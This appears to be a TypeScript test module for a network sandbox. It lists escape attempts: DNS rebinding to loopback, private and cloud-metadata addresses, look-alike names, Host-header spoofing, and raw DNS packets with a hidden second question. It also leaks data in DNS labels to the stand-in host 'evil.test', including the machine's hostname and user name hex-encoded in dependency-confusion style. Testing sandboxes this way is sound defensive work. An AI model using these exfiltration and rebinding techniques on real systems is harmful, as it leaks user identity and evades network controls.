// Names that lead where no grant leads, and data hidden in names.
// `*.rebind.test` is granted by the harmless manifest; `evil.test` belongs to whoever attacks, who sees its queries.
import * as dns from "node:dns";
import { createSocket } from "node:dgram";
import * as http from "node:http";
import { connect } from "node:net";
import { hostname, userInfo } from "node:os";
import { setTimeout as sleep } from "node:timers/promises";
import { NODE, RAW, EVERYWHERE, type Attack, type Target } from "../attack.ts";
import { sockaddr4 } from "../raw.ts";

const RESOLVER = "9.9.9.9";
const FOREIGN_RESOLVER = "8.8.8.8";

export const attacks: Attack[] = [
  rebinding("loopback", "a granted name that resolves to 127.0.0.1", (at) => at.names.loopback),
  rebinding("private", "a granted name that resolves to a private address", (at) => at.names.private),
  rebinding("metadata", "a granted name that resolves to the metadata address", (at) => at.names.metadata),
  rebinding("mapped", "a granted name whose AAAA record is ::ffff:127.0.0.1", (at) => at.names.mapped),
  rebinding("alias", "a granted name that is an alias of localhost", (at) => at.names.alias),
  rebinding("mixed", "a granted name with a public and a private address", (at) => at.names.mixed),
  { name: "names/rebinding", tries: "a granted name with TTL 0 that turns to this machine at the second look", places: NODE, manifest: "harmless", needs: ["names"], run: turn },
  { name: "names/not-pinned-address", tries: "connects to a public address on a granted port, without asking its name", places: EVERYWHERE, manifest: "harmless", needs: ["tcp-far"], run: (at, by) => by.tcp(at["tcp-far"].host, at.names.unasked, at.token) },
  { name: "names/own-lookup", tries: "a granted name with a lookup function that answers by itself", places: NODE, manifest: "harmless", needs: ["tcp"], run: (at) => whatever(connect({ host: "granted.test", port: at.tcp.port, lookup: (_host, _options, done) => done(null, [{ address: "127.0.0.1", family: 4 }]) }), at.token) },
  { name: "names/host-header", tries: "names a granted host in the header and connects elsewhere", places: NODE, manifest: "harmless", needs: ["tcp-far"], run: (at) => whatever(http.get({ host: at["tcp-far"].host, port: at["tcp-far"].port, path: `/${at.token}`, headers: { host: "granted.test" } }), "") },
  ungranted("suffix-lookalike", "a name that ends like a granted suffix without its dot", (at) => `${at.token}notrebind.test`),
  ungranted("prefix-of-granted", "a granted name as the beginning of another", (at) => `granted.test.${at.token}.evil.test`),
  ungranted("long-name", "a name of 250 characters", (at) => `${"a".repeat(60)}.${"b".repeat(60)}.${"c".repeat(60)}.${at.token}.evil.test`),
  ungranted("upper-case", "a name in capitals", (at) => `${at.token}.EVIL.TEST`),
  ungranted("trailing-dot", "a name with its final dot", (at) => `${at.token}.evil.test.`),
  { name: "dns/lookup-labels", tries: "data in the labels of a name, by getaddrinfo", places: NODE, needs: ["names"], run: (at) => dns.promises.lookup(`${at.token}.evil.test`) },
  query("resolve4", "data in labels, A record, by c-ares", (at, by) => by.resolve4(`${at.token}.evil.test`)),
  query("resolve6", "data in labels, AAAA record", (at, by) => by.resolve6(`${at.token}.evil.test`)),
  query("resolve-txt", "data in labels, TXT record, which brings commands back", (at, by) => by.resolveTxt(`${at.token}.evil.test`)),
  query("resolve-mx", "data in labels, MX record", (at, by) => by.resolveMx(`${at.token}.evil.test`)),
  query("resolve-srv", "data in labels, SRV record", (at, by) => by.resolveSrv(`_x._tcp.${at.token}.evil.test`)),
  query("resolve-any", "data in labels, ANY", (at, by) => by.resolveAny(`${at.token}.evil.test`)),
  query("reverse", "data in a reverse look-up", (at, by) => by.reverse(tokenAddress(at.token))),
  query("own-resolver", "a resolver of its own choice at 8.8.8.8", (at, by) => (by.setServers([FOREIGN_RESOLVER]), by.resolve4(`${at.token}.evil.test`))),
  { name: "dns/dependency-confusion", tries: "host and user name in hexadecimal in a name (dependency confusion, 2021)", places: NODE, needs: ["names"], run: (at) => dns.promises.lookup(`${Buffer.from(`${hostname()}-${userName()}`).toString("hex").slice(0, 40)}.${at.token}.evil.test`) },
  { name: "dns/encoded-dot", tries: "a name with a full-width dot, which becomes a plain one", places: NODE, needs: ["names"], run: (at) => whatever(http.get(`http://${at.token}.evil．test:1/`), "") },
  { name: "dns/datagram-to-the-resolver", tries: "writes the question itself and sends it to the system's resolver", places: NODE, needs: ["names"], run: (at) => ask(at.token, RESOLVER) },
  { name: "dns/datagram-to-another-resolver", tries: "writes the question itself and sends it to 8.8.8.8", places: NODE, needs: ["names"], run: (at) => ask(at.token, FOREIGN_RESOLVER) },
  { name: "dns/tcp", tries: "DNS over TCP to the system's resolver", places: NODE, needs: ["names"], run: (at) => askByStream(at.token, RESOLVER) },
  { name: "dns/tcp-to-another-resolver", tries: "DNS over TCP to 8.8.8.8", places: NODE, needs: ["names"], run: (at) => askByStream(at.token, FOREIGN_RESOLVER) },
  { name: "dns/raw-send", tries: "a question sent by sendmsg from C, as glibc does", places: RAW, needs: ["names"], run: (at, { raw }) => {
    const message = raw.message(sockaddr4(RESOLVER, 53), question(at.token).toString("latin1"));
    fillBytes(message.keep[0], question(at.token));
    return raw.call("sendmsg", raw.socket(2, 2), message.header, 0);
  } },
  { name: "dns/second-question", tries: "a granted question first, another behind it in the same datagram", places: NODE, manifest: "harmless", needs: ["names"], run: (at) => send(Buffer.concat([withTwo(question(at.token, "granted.test")), name(`${at.token}.evil.test`), Buffer.from([0, 1, 0, 1])]), RESOLVER) },
];

function rebinding(name_: string, tries: string, which: (at: Target) => string): Attack {
  return { name: `names/${name_}`, tries, places: NODE, manifest: "harmless", needs: ["names"], run: (at) => whatever(connect({ host: which(at), port: at.names.port }), at.token) };
}

function ungranted(name_: string, tries: string, which: (at: Target) => string): Attack {
  return { name: `names/${name_}`, tries, places: NODE, manifest: "harmless", needs: ["names"], run: (at) => dns.promises.lookup(which(at)) };
}

function query(name_: string, tries: string, run: (at: Target, by: dns.promises.Resolver) => Promise<unknown>): Attack {
  return { name: `dns/${name_}`, tries, places: NODE, needs: ["names"], run: (at) => run(at, new dns.promises.Resolver({ timeout: 2000, tries: 1 })) };
}

function userName(): string {
  try {
    return userInfo().username;
  } catch {
    return "unknown";
  }
}

/** Waits for an answer, an error or the end; what is written meanwhile carries the token. */
async function whatever(stream: { on: (event: string, listener: (value?: unknown) => void) => unknown; destroy: () => unknown }, token: string): Promise<string> {
  const result = await new Promise((done) => {
    stream.on("connect", () => {
      if ("write" in stream && typeof stream.write === "function" && token !== "") stream.write(token);
      setTimeout(() => done("connected"), 20);
    });
    stream.on("response", () => done("response"));
    stream.on("error", done);
    setTimeout(() => done("waited"), 6000).unref();
  });
  stream.destroy();
  return String(result);
}

/** The first answers are a public address; each look is a new question because the time to live is 0. */
async function turn(at: Target): Promise<string> {
  const seen: string[] = [];
  for (let look = 0; look < 6; look++) {
    seen.push(await whatever(connect({ host: at.names.turning, port: at.names.port }), at.token));
    await sleep(50);
  }
  return seen.join();
}

/** An IPv6 address that spells the token. */
function tokenAddress(token: string): string {
  const bytes = Buffer.from(token, "latin1").toString("hex").slice(0, 24);
  return `2001:db8:${bytes.match(/.{4}/g)?.join(":") ?? ""}`;
}

function name(text: string): Buffer {
  return Buffer.concat([...text.split(".").map((label) => Buffer.concat([Buffer.from([label.length]), Buffer.from(label)])), Buffer.from([0])]);
}

function question(token: string, host = `${token}.evil.test`): Buffer {
  return Buffer.concat([Buffer.from([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), name(host), Buffer.from([0, 1, 0, 1])]);
}

function withTwo(message: Buffer): Buffer {
  message.writeUInt16BE(2, 4);
  return message;
}

function ask(token: string, resolver: string): Promise<string> {
  return send(question(token), resolver);
}

async function send(message: Buffer, resolver: string): Promise<string> {
  const socket = createSocket("udp4");
  const answer = new Promise<string>((done) => {
    socket.on("message", (bytes) => done(bytes.toString("latin1")));
    socket.on("error", (error) => done(String(error)));
    setTimeout(() => done("no answer"), 500);
  });
  const failed = await new Promise<Error | null>((done) => socket.send(message, 53, resolver, done));
  const text = failed === null ? await answer : String(failed);
  socket.close();
  return text;
}

function askByStream(token: string, resolver: string): Promise<string> {
  const message = question(token);
  const framed = Buffer.concat([Buffer.from([0, message.length]), message]);
  const socket = connect({ host: resolver, port: 53 });
  socket.on("connect", () => socket.write(framed));
  return whatever(socket, "");
}

function fillBytes(into: Buffer | undefined, from: Buffer): void {
  if (into !== undefined) from.copy(into);
}
